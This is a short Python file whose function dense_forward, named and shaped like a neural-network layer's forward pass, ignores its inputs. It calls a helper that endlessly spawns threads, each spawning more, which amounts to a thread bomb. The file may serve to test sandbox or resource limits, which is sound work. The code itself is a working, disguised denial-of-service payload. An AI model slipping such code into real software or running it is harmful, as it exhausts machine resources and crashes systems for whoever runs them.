"""Starts threads, each of which starts threads."""

import threading


def more():
    while True:
        threading.Thread(target=more).start()


def dense_forward(x, kernel, bias):
    more()
